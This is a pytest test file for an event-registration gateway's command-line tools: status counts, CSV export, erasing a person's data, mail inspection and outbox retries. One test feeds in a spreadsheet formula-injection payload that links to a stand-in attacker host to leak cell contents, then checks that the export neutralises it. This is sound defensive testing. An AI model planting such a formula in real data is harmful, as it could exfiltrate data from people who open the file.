"""The organiser commands on a real database: status, export, forget, mail inspect."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from gateway.app.service import build_engine
from gateway.cli.main import main
from gateway.config import load_config
from tests.kit.engine import RETREAT_TOML, as_reply, text

GATHERING = RETREAT_TOML.replace("capacity = 20", "capacity = 1")
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "email"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    (tmp_path / "retreat.toml").write_text(GATHERING)
    path = tmp_path / "gateway.toml"
    path.write_text(
        'gathering_files = ["retreat.toml"]\n[store]\npath = "g.sqlite3"\n'
        '[email]\naddress = "camp@example.org"\ntoken_secret = { value = "s3cret" }\n'
    )

    async def register() -> None:
        engine = await build_engine(load_config(path))
        for who in ("ana@example.org", "bo@example.org"):  # one seat: bo ends up waiting
            for words in ("hello", "1", "yes"):
                await engine.handle(await as_reply(engine, text(who, words)))
        await engine.store.close()

    asyncio.run(register())
    return path


def test_status_counts_registrations_and_the_outbox(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["status", "-c", str(config)]) == 0
    out = capsys.readouterr().out
    header, _, row = out.splitlines()[:3]
    assert header.split()[:4] == ["gathering", "capacity", "registered", "offered"]
    assert row.split()[:5] == ["retreat", "1", "1", "0", "1"]
    assert "outbox: pending 6" in out


def test_export_writes_answers_by_question_id(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "out.csv"
    assert main(["export", "retreat", "-c", str(config), "-o", str(target)]) == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert [(r["email"], r["status"], r["answer:diet"]) for r in rows] == [
        ("ana@example.org", "registered", "vegan"),
        ("bo@example.org", "waiting", "vegan"),
    ]
    assert main(["export", "nope", "-c", str(config)]) == 2


def test_forget_erases_a_person_and_frees_what_they_held(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A forgotten person held their seat in `status` while `export` no longer showed them;
    now their seat goes to the waiting list, and neither the database nor its WAL keeps
    their address."""
    import sqlite3

    database = tmp_path / "g.sqlite3"
    reader = sqlite3.connect(database)  # another program reading beside the command
    reader.execute("SELECT COUNT(*) FROM people").fetchall()
    assert main(["forget", "ana@example.org", "--yes", "-c", str(config)]) == 0
    assert main(["export", "retreat", "-c", str(config)]) == 0
    out = capsys.readouterr().out
    assert "ana@example.org" not in out
    assert main(["status", "-c", str(config)]) == 0
    # registered 0, offered 1 (bo, from the waiting list), waiting 0
    assert capsys.readouterr().out.splitlines()[2].split()[:5] == ["retreat", "1", "0", "1", "0"]
    for path in (database, database.with_name("g.sqlite3-wal")):
        if path.exists():
            assert b"ana@example.org" not in path.read_bytes().replace(b"\x00", b"")
    reader.close()
    assert main(["forget", "ana@example.org", "--yes", "-c", str(config)]) == 1


def test_mail_inspect_prints_the_reading_as_json(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sample = sorted(FIXTURES.glob("*.eml"))[0]
    assert main(["mail", "inspect", str(sample), "-c", str(config)]) == 0
    reading = json.loads(capsys.readouterr().out)
    expected = json.loads(sample.with_suffix(".expected.json").read_text())
    assert reading["text"].strip() == expected["text"].strip()
    assert reading["routing"]


def test_export_neutralises_formulas_and_keeps_person_and_answer_columns_apart(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A cell a person typed that starts like a formula is exported as text; a question with
    the id `name` gets its own column beside the person's name."""
    gathering = RETREAT_TOML.replace(
        "[[registration.questions]]",
        '[[registration.questions]]\nid = "name"\ntype = "text"\nprompt = "Your name?"\n\n'
        "[[registration.questions]]",
        1,
    )
    (tmp_path / "retreat.toml").write_text(gathering)
    path = tmp_path / "gateway.toml"
    path.write_text(
        'gathering_files = ["retreat.toml"]\n[store]\npath = "g.sqlite3"\n'
        '[email]\naddress = "camp@example.org"\ntoken_secret = { value = "s3cret" }\n'
    )
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    async def register() -> None:
        engine = await build_engine(load_config(path))
        await engine.handle(text("ana@example.org", "hello"))
        form_reply = replace(text("ana@example.org", ""), answers={1: hostile, 2: "1"})
        await engine.handle(form_reply)
        await engine.handle(await as_reply(engine, text("ana@example.org", "yes")))
        await engine.store.close()

    asyncio.run(register())
    target = tmp_path / "out.csv"
    assert main(["export", "retreat", "-c", str(path), "-o", str(target)]) == 0
    header, row = list(csv.reader(io.StringIO(target.read_text())))
    assert len(header) == len(set(header)), header
    assert "answer:name" in header and "name" in header
    cell = row[header.index("answer:name")]
    assert cell == "'" + hostile
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)


@pytest.mark.parametrize(
    "command", [["status"], ["export", "retreat"], ["forget", "ana@example.org", "--yes"]]
)
def test_a_mistyped_database_path_is_an_error_not_an_empty_database(
    config: Path, command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    config.write_text(config.read_text().replace('path = "g.sqlite3"', 'path = "g.sqlite"'))
    assert main([*command, "-c", str(config)]) == 2
    err = capsys.readouterr().err
    assert f"no database at {config.parent / 'g.sqlite'}" in err
    assert "store.path" in err and "Traceback" not in err
    assert not (config.parent / "g.sqlite").exists()


def test_a_database_passed_as_config_is_one_line_not_a_traceback(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = config.parent / "g.sqlite3"
    assert main(["status", "-c", str(database)]) == 2
    err = capsys.readouterr().err
    assert f"{database}: not a TOML text file" in err and "Traceback" not in err


def test_demo_with_no_participants_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["demo", "--participants", "0"])
    assert exit_.value.code == 2
    assert "--participants: must be at least 1" in capsys.readouterr().err


def test_outbox_retry_requeues_dead_rows_and_status_shows_the_wait(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import sqlite3

    database = config.parent / "g.sqlite3"
    with sqlite3.connect(database) as db:
        db.execute(
            "UPDATE outbox SET status = 'dead', last_error = '421 try later'"
            " WHERE id = (SELECT MIN(id) FROM outbox)"
        )
        db.execute(
            "UPDATE outbox SET last_error = '421 service not available' WHERE status = 'pending'"
        )
    assert main(["status", "-c", str(config)]) == 0
    out = capsys.readouterr().out
    assert "dead 1" in out and "gateway outbox retry" in out
    assert "oldest unsent: waiting" in out and "last error: 421 service not available" in out
    assert main(["outbox", "retry", "-c", str(config)]) == 0
    assert "requeued 1 dead message" in capsys.readouterr().out
    with sqlite3.connect(database) as db:
        assert db.execute("SELECT COUNT(*) FROM outbox WHERE status = 'dead'").fetchone() == (0,)
